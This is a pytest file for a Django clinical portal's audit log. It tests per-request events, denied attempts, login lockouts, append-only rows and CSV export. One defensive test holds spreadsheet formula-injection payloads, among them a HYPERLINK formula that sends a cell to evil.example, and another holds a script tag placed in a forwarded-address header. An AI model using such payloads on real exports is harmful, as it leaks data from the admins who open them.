"""The audit trail: exactly one event per request to every patient-data and organisation route
(a write also records `started` before its view runs), denied attempts included, events from
tasks, sign-in failures and member changes, append-only rows, and the admins' log view and CSV."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse

from diagnosis.audit import AUDITED_ADMIN_MODELS, AUDITED_ORGANISATION_ROUTES, AUDITED_ROUTES
from diagnosis.models import AuditEvent, AuditOutcome, Membership, Role
from tests.portal.helpers import PASSWORD, RED, image_bytes
from tests.portal.urlwalk import url_routes

# Named routes that show no patient data and change no member (health, sign-in, the caller's own
# account, operations counters, API schema and docs, the model page). The organisation pages (members, audit log)
# are audited too: AUDITED_ORGANISATION_ROUTES.
NOT_PATIENT_DATA = {
    "healthz",
    "readyz",
    "login",
    "logout",
    "password_change",
    "password_change_done",
    "password_reset",
    "password_reset_done",
    "password_reset_confirm",
    "password_reset_complete",
    "ops",
    "api-token",
    "api-token-list",
    "api-token-detail",
    "api-token-rotate",
    "account-api-tokens",
    "account-api-token-revoke",
    "account-api-token-rotate",
    "api-me",
    "api-schema",
    "api-docs",
    "api-redoc",
    "api-fhir-metadata",  # the FHIR CapabilityStatement
    "model",  # the served model described: its manifest, no patient's record
    "api-model",
}
# What a clinician does on each route in the walk: the method, and form data for POSTs.
POSTED = {
    "patient-create": {"organisation": "{organisation_id}", "external_id": "MRN-777", "name": "New", "sex": "unknown"},
    "patient-edit": {"external_id": "MRN-001", "name": "Ada L.", "sex": "female"},
    "lesion-create": {"label": "Left wrist", "body_site": "hand"},
    "image-review": {"diagnosis": "nv"},
    "image-classify": {},
    "api-image-classify": {},
    "api-lesion-close": {"outcome": "discharged"},
    "api-lesion-reopen": {},  # after api-lesion-close above closed it
}


def _new_events(since: int) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(pk__gt=since).exclude(surface="task").order_by("pk"))


def _outcome_event(response) -> AuditEvent:
    """The request's one outcome event, the one with its status (a write has a `started` event
    before it; a member change its own event)."""
    return AuditEvent.objects.get(request_id=response["X-Request-ID"], status_code__isnull=False)


def _last_id() -> int:
    return AuditEvent.objects.order_by("-pk").values_list("pk", flat=True).first() or 0


def test_it_lists_every_route_as_audited_or_as_holding_no_patient_data():
    names = {r.name for r in url_routes() if r.namespace != "admin" and r.name}
    unclassified = names - set(AUDITED_ROUTES) - set(AUDITED_ORGANISATION_ROUTES) - NOT_PATIENT_DATA
    assert unclassified == set(), "add these routes to diagnosis/audit.py AUDITED_ROUTES or to NOT_PATIENT_DATA"
    assert set(AUDITED_ROUTES) | set(AUDITED_ORGANISATION_ROUTES) <= names  # no stale entries


def test_it_records_exactly_one_event_per_request_on_every_patient_data_route(victim, owner, api_for):
    client = Client()
    client.force_login(owner)
    api = api_for(owner)
    checked = 0
    for name, route in AUDITED_ROUTES.items():
        url = reverse(name, kwargs={key: victim[key] for key in _kwargs_of(name)})
        surface_client = api if name.startswith("api-") else client
        if name in POSTED:
            data = {k: v.format(**victim) for k, v in POSTED[name].items()}
            method, response = "POST", surface_client.post(url, data)
        else:
            method, response = "GET", surface_client.get(url)
        before = _last_id_before(response)
        events = _new_events(before)
        if method == "POST":  # a write: `started` first, committed before the view ran
            started = events.pop(0)
            assert (started.action, started.route, started.actor_id) == ("started", name, owner.pk), name
            assert started.status_code is None and started.request_id == response["X-Request-ID"]
        assert len(events) == 1, (name, [(e.route, e.action) for e in events])
        event = events[0]
        assert event.route == name and event.method == method, name
        assert event.actor_id == owner.pk and event.actor_username == "alice"
        assert event.organisation_id == victim["organisation_id"], name
        assert event.status_code == response.status_code and event.outcome == AuditOutcome.OK, (name, event.status_code)
        assert event.request_id == response["X-Request-ID"]
        assert event.surface == ("api" if name.startswith("api-") else "page")
        if route.kind == "detail" and name not in POSTED:
            assert event.object_type == route.object_type
            assert event.object_id == victim[f"{route.object_type}_id"], name
        checked += 1
    assert checked == len(AUDITED_ROUTES)


def _kwargs_of(name: str) -> tuple[str, ...]:
    (route,) = [r for r in url_routes() if r.name == name and r.namespace != "admin"]
    return route.kwargs


def _last_id_before(response) -> int:
    """The id just before the event of this response (found by its request id)."""
    event = AuditEvent.objects.filter(request_id=response["X-Request-ID"]).order_by("pk").first()
    assert event is not None, "no event carries the response's X-Request-ID"
    return event.pk - 1


def test_it_records_what_a_request_created(owner, org, client_for):
    client = client_for(owner)
    response = client.post(
        reverse("patient-create"), {"organisation": org.pk, "external_id": "N-1", "name": "New", "sex": "unknown"}
    )
    assert response.status_code == 302
    event = _outcome_event(response)
    assert (event.action, event.object_type, event.organisation_id) == ("create", "patient", org.pk)
    assert event.object_id == int(response["Location"].rstrip("/").split("/")[-1])


def test_it_records_a_denied_attempt_under_the_targeted_organisation(victim, outsider, api_for):
    response = api_for(outsider).delete(reverse("api-patient-detail", kwargs={"patient_id": victim["patient_id"]}))
    assert response.status_code == 404
    event = _outcome_event(response)
    assert event.outcome == AuditOutcome.DENIED and event.actor_username == "charlie"
    assert event.organisation_id == victim["organisation_id"]  # the victim's admins see it in their log
    assert (event.object_type, event.object_id, event.method) == ("patient", victim["patient_id"], "DELETE")


def test_it_records_a_refused_write(reader, patient, client_for):
    response = client_for(reader).post(reverse("patient-edit", args=[patient.pk]), {"name": "X"})
    assert response.status_code == 403
    event = _outcome_event(response)
    assert (event.outcome, event.action, event.actor_username) == (AuditOutcome.DENIED, "update", "rita")


def test_it_records_one_event_per_image_a_task_classifies(upload, org):
    image = upload(image_bytes(RED))
    events = AuditEvent.objects.filter(surface="task")
    assert [(e.action, e.object_type, e.object_id, e.organisation_id, e.actor_id) for e in events] == [
        ("classify", "image", image.pk, org.pk, None)
    ]


def test_it_records_failed_logins_without_the_password(owner, client):
    response = client.post(reverse("login"), {"username": "alice", "password": "wrong-password-123"})
    assert response.status_code == 200
    event = AuditEvent.objects.get(action="login_failed")
    assert event.actor_username == "alice" and event.outcome == AuditOutcome.DENIED
    assert "wrong-password" not in repr(list(AuditEvent.objects.values_list()))


def test_it_keeps_patient_data_out_of_events(owner, patient, client_for):
    client_for(owner).get(reverse("patient-list"), {"q": patient.name})
    for row in AuditEvent.objects.values_list():
        assert patient.name not in repr(row) and patient.external_id not in repr(row)


def test_it_refuses_to_change_or_delete_events(owner, patient, client_for):
    response = client_for(owner).get(reverse("patient-detail", args=[patient.pk]))
    event = AuditEvent.objects.get(request_id=response["X-Request-ID"])
    event.action = "nothing happened"
    with pytest.raises(PermissionError):
        event.save()
    with pytest.raises(PermissionError):
        event.delete()
    with pytest.raises(PermissionError):
        AuditEvent.objects.update(action="x")
    with pytest.raises(PermissionError):
        AuditEvent.objects.filter(pk=event.pk).delete()
    with pytest.raises(PermissionError):
        AuditEvent.objects.bulk_update([event], ["action"])
    assert AuditEvent.objects.get(pk=event.pk).action == "view"


def test_it_records_admin_site_access_to_patient_data(victim, owner):
    staff = User.objects.create_user("sam", password=PASSWORD, is_staff=True, is_superuser=True)
    client = Client()
    client.force_login(staff)
    for model in AUDITED_ADMIN_MODELS:
        response = client.get(reverse(f"admin:diagnosis_{model}_changelist"))
        assert response.status_code == 200
        assert AuditEvent.objects.filter(request_id=response["X-Request-ID"], surface="admin").count() == 1
    response = client.get(reverse("admin:diagnosis_patient_change", args=[victim["patient_id"]]))
    event = AuditEvent.objects.get(request_id=response["X-Request-ID"])
    assert (event.action, event.object_type, event.object_id, event.organisation_id) == (
        "view",
        "patient",
        victim["patient_id"],
        victim["organisation_id"],
    )


def test_it_shows_the_log_to_organisation_admins_only(victim, owner, colleague, outsider, client):
    url = reverse("organisation-audit", kwargs={"organisation_id": victim["organisation_id"]})
    client.force_login(colleague)
    client.get(reverse("patient-detail", kwargs={"patient_id": victim["patient_id"]}))
    assert client.get(url).status_code == 403
    client.force_login(outsider)
    assert client.get(url).status_code == 404
    client.force_login(owner)
    page = client.get(url, {"actor": "bob", "action": "view"})
    assert page.status_code == 200
    body = page.content.decode()
    assert "bob" in body and "patient" in body
    assert client.get(url, {"date_from": "not a date"}).status_code == 400


def test_it_exports_the_log_as_csv(victim, owner, colleague, client):
    client.force_login(colleague)
    client.get(reverse("patient-detail", kwargs={"patient_id": victim["patient_id"]}))
    client.force_login(owner)
    response = client.get(
        reverse("organisation-audit", kwargs={"organisation_id": victim["organisation_id"]}),
        {"format": "csv", "actor": "bob"},
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows and {row["actor_username"] for row in rows} == {"bob"}
    assert any(row["route"] == "patient-detail" and row["object_id"] == str(victim["patient_id"]) for row in rows)


def test_it_records_the_forwarded_client_address_and_ignores_garbage(owner, patient, client_for, settings):
    settings.SKINPORTAL_TRUSTED_PROXIES = 1
    client = client_for(owner)
    url = reverse("patient-detail", args=[patient.pk])
    good = client.get(url, HTTP_X_FORWARDED_FOR="203.0.113.7")
    bad = client.get(url, HTTP_X_FORWARDED_FOR="<script>not-an-address</script>")
    assert bad.status_code == 200
    assert AuditEvent.objects.get(request_id=good["X-Request-ID"]).ip == "203.0.113.7"
    assert AuditEvent.objects.get(request_id=bad["X-Request-ID"]).ip is None


def test_it_records_an_id_too_large_for_the_database_without_failing(owner, api_for):
    response = api_for(owner).get("/api/v1/classifications/40772130642328330240/")
    assert response.status_code == 404
    event = AuditEvent.objects.get(request_id=response["X-Request-ID"])
    assert event.object_id is None and event.outcome == AuditOutcome.DENIED


def test_it_withholds_the_answer_when_the_event_cannot_be_written(owner, patient, api_for, monkeypatch):
    def broken(**kwargs):
        raise RuntimeError("database away")

    monkeypatch.setattr("diagnosis.audit.audit_request_record", broken)
    response = api_for(owner).get(f"/api/v1/patients/{patient.pk}/")
    assert response.status_code == 503 and response.json()["error"]["code"] == "audit_unavailable"
    assert patient.name not in response.content.decode()


# --- Sign-in attempts, members and organisation pages in the organisation's own log --------------


def _log(client, organisation_id: int, **filters) -> list[dict[str, str]]:
    response = client.get(
        reverse("organisation-audit", kwargs={"organisation_id": organisation_id}), {"format": "csv", **filters}
    )
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_it_shows_failed_logins_and_lockouts_of_members_in_their_organisations_log(owner, org, other_org, client):
    Membership.objects.create(user=owner, organisation=other_org, role=Role.CLINICIAN)  # alice works at both
    for _ in range(5):
        client.post(reverse("login"), {"username": "alice", "password": "wrong-password-123"})
    assert client.post(reverse("login"), {"username": "alice", "password": PASSWORD}).status_code == 429
    client.post(reverse("login"), {"username": "nobody-here", "password": "wrong-password-123"})

    for organisation in (org, other_org):  # one event per organisation of the username tried
        events = AuditEvent.objects.filter(organisation_id=organisation.pk, object_type="user")
        assert sorted({e.action for e in events}) == ["locked_out", "login_failed"], organisation
        assert {(e.actor_username, e.object_id, e.outcome) for e in events} == {("alice", owner.pk, "denied")}
    unknown = AuditEvent.objects.get(actor_username="nobody-here")
    assert unknown.organisation_id is None  # an unknown username belongs to no organisation's log

    owner_client = Client()
    owner_client.force_login(owner)
    rows = _log(owner_client, org.pk, actor="alice")
    assert {"login_failed", "locked_out"} <= {row["action"] for row in rows}


def test_it_records_every_member_change_in_the_organisations_log(owner, org, client_for):
    newcomer = User.objects.create_user("nina", password=PASSWORD)
    client = client_for(owner)
    url = reverse("organisation-detail", kwargs={"organisation_id": org.pk})
    added = client.post(url, {"username": "nina", "role": Role.CLINICIAN}, HTTP_X_REQUEST_ID="req-add-1")
    changed = client.post(url, {"username": "nina", "role": Role.ADMIN})
    unchanged = client.post(url, {"username": "nina", "role": Role.ADMIN})
    membership = Membership.objects.get(user=newcomer, organisation=org)
    removed = client.post(
        reverse("organisation-member-remove", kwargs={"organisation_id": org.pk, "membership_id": membership.pk})
    )
    assert [r.status_code for r in (added, changed, unchanged, removed)] == [302, 302, 302, 302]

    members = AuditEvent.objects.filter(object_type="member", object_id=newcomer.pk).order_by("pk")
    assert [e.action for e in members] == ["add:clinician", "role:admin", "remove:admin"]
    for event, response in zip(members, (added, changed, removed)):
        assert (event.actor_username, event.organisation_id, event.surface) == ("alice", org.pk, "page")
        assert event.request_id == response["X-Request-ID"] and event.ip == "127.0.0.1"
    assert members[0].request_id == "req-add-1"
    # Each request also has its own outcome event on the organisation route.
    outcome = _outcome_event(removed)
    assert (outcome.route, outcome.action, outcome.outcome) == ("organisation-member-remove", "member_remove", "ok")

    rows = _log(client, org.pk, object_type="member")
    assert [row["action"] for row in rows if row["object_id"] == str(newcomer.pk)] == [
        "remove:admin",
        "role:admin",
        "add:clinician",
    ]


def test_it_records_member_changes_made_outside_the_pages(owner, org):
    newcomer = User.objects.create_user("olga", password=PASSWORD)
    membership = Membership.objects.create(user=newcomer, organisation=org, role=Role.READONLY)  # admin site, shell
    membership.delete()
    events = AuditEvent.objects.filter(object_type="member", object_id=newcomer.pk).order_by("pk")
    assert [(e.action, e.surface, e.organisation_id, e.actor_id) for e in events] == [
        ("add:readonly", "command", org.pk, None),
        ("remove:readonly", "command", org.pk, None),
    ]


def test_it_records_every_request_to_an_organisation_route_and_denied_attempts_on_them(
    victim, owner, colleague, outsider, client
):
    org_id, membership_id = victim["organisation_id"], victim["membership_id"]
    urls = {
        "organisation-detail": reverse("organisation-detail", kwargs={"organisation_id": org_id}),
        "organisation-audit": reverse("organisation-audit", kwargs={"organisation_id": org_id}),
        "organisation-member-remove": reverse(
            "organisation-member-remove", kwargs={"organisation_id": org_id, "membership_id": membership_id}
        ),
    }
    assert set(urls) == set(AUDITED_ORGANISATION_ROUTES)
    attempts = [
        # (who, route, method, data, status, outcome)
        (owner, "organisation-detail", "get", None, 200, "ok"),
        (owner, "organisation-audit", "get", None, 200, "ok"),
        (owner, "organisation-member-remove", "post", {}, 302, "ok"),  # refused: the last admin stays
        (colleague, "organisation-detail", "post", {"username": "charlie", "role": "admin"}, 403, "denied"),
        (colleague, "organisation-audit", "get", None, 403, "denied"),
        (colleague, "organisation-member-remove", "post", {}, 403, "denied"),
        (outsider, "organisation-detail", "get", None, 404, "denied"),
        (outsider, "organisation-detail", "post", {"username": "charlie", "role": "admin"}, 404, "denied"),
        (outsider, "organisation-audit", "get", None, 404, "denied"),
        (outsider, "organisation-member-remove", "post", {}, 404, "denied"),
    ]
    for user, name, method, data, status, outcome in attempts:
        client.force_login(user)
        response = getattr(client, method)(urls[name], data)
        assert response.status_code == status, (user.username, name, method)
        events = list(AuditEvent.objects.filter(request_id=response["X-Request-ID"]).order_by("pk"))
        if method == "post":
            assert events[0].action == "started", (user.username, name)
            events = events[1:]
        assert len(events) == 1, (user.username, name, [(e.action, e.outcome) for e in events])
        event = events[0]
        assert (event.route, event.outcome, event.status_code) == (name, outcome, status), (user.username, name)
        assert event.actor_username == user.username
        # Filed under the organisation aimed at, outsiders' attempts included: its admins see them.
        assert event.organisation_id == org_id, (user.username, name)
    assert Membership.objects.filter(pk=membership_id).exists()  # nothing an attempt changed


def test_it_records_an_error_event_when_a_view_raises(owner, patient, api_for, client_for, monkeypatch):
    def broken(**kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr("diagnosis.services.patients.patient_update", broken)
    api = api_for(owner)
    api.raise_request_exception = False
    response = api.patch(f"/api/v1/patients/{patient.pk}/", {"name": "X"}, format="json")
    assert response.status_code == 500
    assert (_outcome_event(response).outcome, _outcome_event(response).status_code) == ("error", 500)
    page = client_for(owner)
    page.raise_request_exception = False
    response = page.post(
        reverse("patient-edit", args=[patient.pk]), {"external_id": "MRN-001", "name": "Y", "sex": "female"}
    )
    assert response.status_code == 500
    event = _outcome_event(response)
    assert (event.route, event.action, event.outcome, event.actor_username) == (
        "patient-edit",
        "update",
        "error",
        "alice",
    )


def test_it_leaves_a_started_event_when_a_write_is_killed_mid_way(owner, patient, api_for, monkeypatch):
    """A worker killed inside the view (gunicorn's timeout raises SystemExit in the request; a
    SIGKILL stops it dead) writes no outcome: the `started` event, committed before, is the trace."""

    def killed(**kwargs):
        raise SystemExit(1)

    monkeypatch.setattr("diagnosis.services.patients.patient_update", killed)
    before = _last_id()
    with pytest.raises(SystemExit):
        api_for(owner).patch(
            f"/api/v1/patients/{patient.pk}/", {"name": "X"}, format="json", HTTP_X_REQUEST_ID="killed-1"
        )
    (event,) = _new_events(before)
    assert (event.action, event.route, event.method, event.request_id) == (
        "started",
        "api-patient-detail",
        "PATCH",
        "killed-1",
    )
    assert (event.actor_username, event.organisation_id, event.object_id) == (
        "alice",
        patient.organisation_id,
        patient.pk,
    )
    assert event.status_code is None


def test_it_refuses_a_write_whose_started_event_cannot_be_written(owner, patient, api_for, monkeypatch):
    def broken(**kwargs):
        raise RuntimeError("database away")

    monkeypatch.setattr("diagnosis.audit.audit_request_started", broken)
    response = api_for(owner).patch(f"/api/v1/patients/{patient.pk}/", {"name": "Changed"}, format="json")
    assert response.status_code == 503 and response.json()["error"]["code"] == "audit_unavailable"
    patient.refresh_from_db()
    assert patient.name == "Ada Lovelace"  # the view never ran


# --- CSV formula injection ----------------------------------------------------------------------


def test_it_neutralises_spreadsheet_formulas_in_the_audit_csv(victim, owner, org, outsider, api_for, client_for):
    """Cells that start with = + - @ tab or CR are formulas to a spreadsheet: a username such as
    =HYPERLINK(...) (a member's) or a request id such as -A1-B1 (anyone's, even another
    organisation's user aiming at this one's ids) must reach the admin's CSV as plain text."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-A1-B1", "@SUM(A1)", "\tx=1", "\rx=1"]
    for name in hostile:
        user = User.objects.create_user(name, password=PASSWORD)
        Membership.objects.create(user=user, organisation=org, role=Role.CLINICIAN)
        api_for(user).get(f"/api/v1/patients/{victim['patient_id']}/")
    forged = api_for(outsider).get(f"/api/v1/patients/{victim['patient_id']}/", HTTP_X_REQUEST_ID="-A1-B1")
    assert forged.status_code == 404 and forged["X-Request-ID"] != "-A1-B1"

    response = client_for(owner).get(
        reverse("organisation-audit", kwargs={"organisation_id": org.pk}), {"format": "csv"}
    )
    text = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], "a formula cell"
    usernames = {row["actor_username"] for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert {f"'{name}" for name in hostile} <= usernames  # kept, readable, inert


def test_it_keeps_only_a_sane_request_id(owner, patient, client_for):
    client = client_for(owner)
    url = reverse("patient-detail", args=[patient.pk])
    assert client.get(url, HTTP_X_REQUEST_ID="proxy-7f3a.1_b")["X-Request-ID"] == "proxy-7f3a.1_b"
    for bad in ("-A1-B1", "=1+1", "@x", ".hidden", "a" * 65, "a b", "é"):
        answered = client.get(url, HTTP_X_REQUEST_ID=bad)["X-Request-ID"]
        assert answered != bad and len(answered) == 32, bad  # a fresh uuid instead, never an error


@pytest.mark.parametrize("header", ["Token " + "0" * 64, "Token caf\xe9", "Token", "Bearer x"])
def test_it_records_a_write_with_a_bad_token_as_an_anonymous_attempt(header, patient, client):
    response = client.patch(
        f"/api/v1/patients/{patient.pk}/", "{}", content_type="application/json", HTTP_AUTHORIZATION=header
    )
    assert response.status_code == 401, response.content
    started, outcome = AuditEvent.objects.filter(request_id=response["X-Request-ID"]).order_by("pk")
    assert (started.action, started.actor_id, outcome.outcome, outcome.status_code) == ("started", None, "denied", 401)
